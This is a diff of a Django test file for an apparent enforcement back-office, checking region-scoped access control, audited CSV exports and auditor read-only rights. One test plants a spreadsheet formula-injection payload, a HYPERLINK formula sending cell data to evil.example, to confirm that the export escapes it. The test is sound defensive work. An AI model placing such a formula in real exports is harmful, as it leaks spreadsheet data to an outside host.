@@ -113,9 +113,9 @@ def test_the_task_of_another_region_answers_403_with_no_detail(world):
 def test_an_officer_cannot_decide_or_enrol_in_another_region_by_posting(world):
     http = browser(world["gta_officer"])
     task, client = world["quebec"]["task"], world["quebec"]["client"]
-    for op in ({"op": "assign_me"}, {"op": "resolve", "resolution": "identity_confirmed", "note": "guessing"}):
-        assert refused(http.post(f"{TASKS}{task.pk}/decide/", op))
-        assert refused(http.post(f"{TASKS}{task.pk}/change/", op))
+    for op, data in (("assign-me", {}), ("resolve", {"resolution": "identity_confirmed", "note": "guessing"})):
+        assert refused(http.post(f"{TASKS}{task.pk}/{op}/", data))
+        assert refused(http.post(f"{TASKS}{task.pk}/change/", data))
     assert refused(http.post(f"/admin/enforcement/client/{client.pk}/activation-code/"))
     assert refused(http.post(f"/admin/enforcement/client/{client.pk}/consent/", {
         "kind": "app_use", "decision": "withdrawn", "language": "en", "confirm": "on",
@@ -152,7 +152,7 @@ def test_an_export_holds_only_the_officers_region_and_is_audited(world):
     ids = [world["gta"]["task"].pk, world["quebec"]["task"].pk]
     response = http.post(TASKS, {"action": "export_csv", ACTION_CHECKBOX_NAME: ids, "index": 0})
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
-    rows = response.content.decode().strip().splitlines()
+    rows = b"".join(response.streaming_content).decode().strip().splitlines()
     assert len(rows) == 2 and rows[1].startswith(f"{world['gta']['task'].pk},{world['gta']['client'].uci},")
     event = AuditEvent.objects.get(action="export.tasks", actor=world["gta_officer"])
     assert event.details["ids"] == [world["gta"]["task"].pk]
@@ -165,7 +165,7 @@ def test_the_task_export_quotes_a_name_a_spreadsheet_would_run(world):
     task = window_task(region_code="gta", family_name='=HYPERLINK("https://evil.example/?"&A1,"Open")')
     http = browser(world["gta_officer"])
     response = http.post(TASKS, {"action": "export_csv", ACTION_CHECKBOX_NAME: [task.pk], "index": 0})
-    [header, row] = list(csv.reader(io.StringIO(response.content.decode())))
+    [header, row] = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
     name = row[header.index("client")]
     assert name.endswith('=HYPERLINK("https://evil.example/?"&A1,"Open")') and not name.startswith(csvfile.FORMULA_START)
 
@@ -175,7 +175,7 @@ def test_every_csv_file_is_written_by_the_one_escaping_writer():
 
     writers = [
         str(path.relative_to(ROOT))
-        for folder in ("enforcement", "reportin", "biometrics", "config")
+        for folder in ("enforcement", "reportin", "backoffice", "biometrics", "config")
         for path in (ROOT / folder).rglob("*.py")
         if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
     ]
@@ -222,10 +222,10 @@ def test_an_auditor_reads_everything_changes_nothing_and_sees_no_image(world):
     assert page.status_code == 200
     body = page.content.decode()
     assert world["quebec"]["client"].uci in body
-    assert 'name="op"' not in body and "/selfie/" not in body  # no decision forms, no images
+    assert f"{task.pk}/resolve/" not in body and f"{task.pk}/assign-me/" not in body and "/selfie/" not in body  # no decision forms, no images
     for name in ("task selfie", "task reference", "reference image", "check-in selfie"):
         assert http.get(urls_of(world["quebec"])[name]).status_code == 403, name
-    assert http.post(f"{TASKS}{task.pk}/decide/", {"op": "resolve", "resolution": "false_alarm", "note": "x"}).status_code == 403
+    assert http.post(f"{TASKS}{task.pk}/resolve/", {"resolution": "false_alarm", "note": "x"}).status_code == 403
     assert http.post(f"/admin/enforcement/client/{world['quebec']['client'].pk}/activation-code/").status_code == 403
     assert http.post(f"/admin/enforcement/client/{world['quebec']['client'].pk}/change/", {"given_name": "X"}).status_code == 403
     assert not AccessRecord.objects.exists()
